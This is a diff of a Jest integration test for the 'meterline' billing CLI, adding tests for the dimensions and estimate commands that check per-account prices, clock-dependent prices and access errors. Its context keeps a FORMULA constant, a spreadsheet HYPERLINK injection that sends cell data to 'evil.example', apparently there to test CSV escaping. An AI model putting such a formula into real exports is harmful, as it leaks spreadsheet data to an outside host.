@@ -1,6 +1,6 @@
-/** `meterline metrics`, `explain` and `mcp` against the real API: tables, JSON, CSV and pages. */
+/** `meterline metrics`, `explain`, `dimensions`, `estimate`, `keys` and `mcp` against the real API: tables, JSON, CSV and pages. */
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
-import { DEFAULT_PRICE_BOOK } from '@meterline/catalog';
+import { DEFAULT_PRICE_BOOK, DEFAULT_PRICE_BOOK_FILE, PriceBook } from '@meterline/catalog';
 import type { KeyRole } from '@meterline/service/access';
 import { oneServer, registerPriceBook } from '@meterline/warehouse';
 import { bearer, metricsPath, NOW, startApi, type TestApi } from '../harness/api.js';
@@ -14,6 +14,16 @@ const DAY = ['metrics', '--from', '2025-10-01', '--to', '2025-10-02'];
 const MONTH = ['metrics', '--month', '2025-10'];
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"total")';
 
+const VOLUME = { billingDimension: 'volume_storage_gbs', per: '1000' } as const;
+const BOOK = new PriceBook({
+  ...DEFAULT_PRICE_BOOK_FILE,
+  prices: [...DEFAULT_PRICE_BOOK_FILE.prices, { ...VOLUME, amount: '8', effectiveFrom: '2098-01-01T00:00:00Z' }],
+  overrides: [
+    { ...VOLUME, accountId: 'acme', amount: '3.50', effectiveFrom: '2025-06-01T00:00:00Z' },
+    { ...VOLUME, accountId: 'initech', amount: '0.000000000000000001', effectiveFrom: '2025-07-01T00:00:00Z' },
+  ],
+});
+
 let api: TestApi;
 /** The environments of accounts: with usage of one day, of several months, and with many resources. */
 let acme: Record<string, string>;
@@ -21,7 +31,7 @@ let initech: Record<string, string>;
 let wide: Record<string, string>;
 
 beforeAll(async () => {
-  api = await startApi();
+  api = await startApi({ priceBook: BOOK });
   [acme, initech, wide] = await Promise.all([as('acme'), as('initech'), as('wide')]);
   const used = (resourceName: string, at: string, cost: string) =>
     event({ accountId: 'initech', resourceName, at, cost });
@@ -386,3 +396,63 @@ describe('explain', () => {
 });
 
 describe('meterline mcp', () => describeTools(() => api));
+
+describe('prices', () => {
+  const lineOf = async (env: Record<string, string>, ...args: string[]) =>
+    (await run(['dimensions', ...args], env)).stdout.split('\n').find((line) => line.startsWith('volume'));
+  const estimate = async (lines: readonly object[], env: Record<string, string>, ...args: string[]) =>
+    run(['estimate', '--file', '-', '--json', ...args], env, {
+      stdin: lines.map((line) => JSON.stringify({ ...line, billingDimension: VOLUME.billingDimension })).join('\n'),
+    });
+
+  it('dimensions lists the prices in force for the account, and says which API they come from', async () => {
+    const { stdout, stderr } = await run(['dimensions']);
+    expect(stdout).toMatch(/^volume_storage_gbs +volume +GB-s +\$3\.50 per 1,000 GB-s +2025-06-01T00:00:00Z$/m);
+    expect(stderr).toBe(`Prices in force now: acme at ${api.url} (environment: METERLINE_API_URL).\n`);
+    expect(await lineOf(initech)).toContain('$0.000000000000000001 per 1,000 GB-s');
+    // The book of a variable is perhaps not the one of this API.
+    expect(await lineOf({ ...acme, PRICE_BOOK: 'none.json' })).toContain('$3.50');
+    expect(JSON.parse((await run(['dimensions', '--json'])).stdout)[10]).toEqual({
+      ...{ billingDimension: 'volume_storage_gbs', resourceType: 'volume', unit: 'gbs' },
+      price: { amount: '3.5', per: '1000', currency: 'USD', effectiveFrom: '2025-06-01T00:00:00Z' },
+    });
+  });
+
+  it('dimensions shows a price that is in force by the clock of the API alone', async () => {
+    try {
+      api.clock.now = new Date('2099-01-01T00:00:00Z');
+      expect(await lineOf(wide)).toMatch(/\$8\.00 per 1,000 GB-s +2098-01-01T/);
+    } finally {
+      api.clock.now = NOW;
+    }
+  });
+
+  it('estimate prices each item with the prices of its account', async () => {
+    const operator = await as(undefined, 'operator');
+    const lines = [
+      { usage: 1000 },
+      { usage: 2000, accountId: 'wide' },
+      { usage: 1, timestamp: '2025-06-01T00:00:00Z' },
+    ];
+    const { code, stdout } = await estimate(lines, operator, '--account', 'acme');
+    // 3.5 + 2,000 × 0.12 / 2,628,000 + 0.0035
+    expect({ code, ...JSON.parse(stdout) }).toMatchObject({ code: 0, totalCost: '3.503591324201' });
+  });
+
+  it.each([
+    ['an account of others', { usage: 1, accountId: 'wide' }, 3, 'Access denied'],
+    [
+      'a time before the price in force',
+      { usage: 1, timestamp: '2025-05-31T23:59:59Z' },
+      1,
+      'known at 2025-05-31T23:59:59Z: name a book that has one with --book',
+    ],
+  ])('estimate does not guess the price of %s', async (_, line, code, reason) => {
+    expect(await estimate([line], acme)).toMatchObject({ code, stdout: '', stderr: expect.stringContaining(reason) });
+  });
+
+  it('dimensions fails when the API is away, and prints no other prices', async () => {
+    const away = await run(['dimensions'], { ...acme, METERLINE_API_URL: 'http://127.0.0.1:1' });
+    expect(away).toMatchObject({ code: 4, stdout: '', stderr: expect.stringContaining('cannot be reached') });
+  });
+});
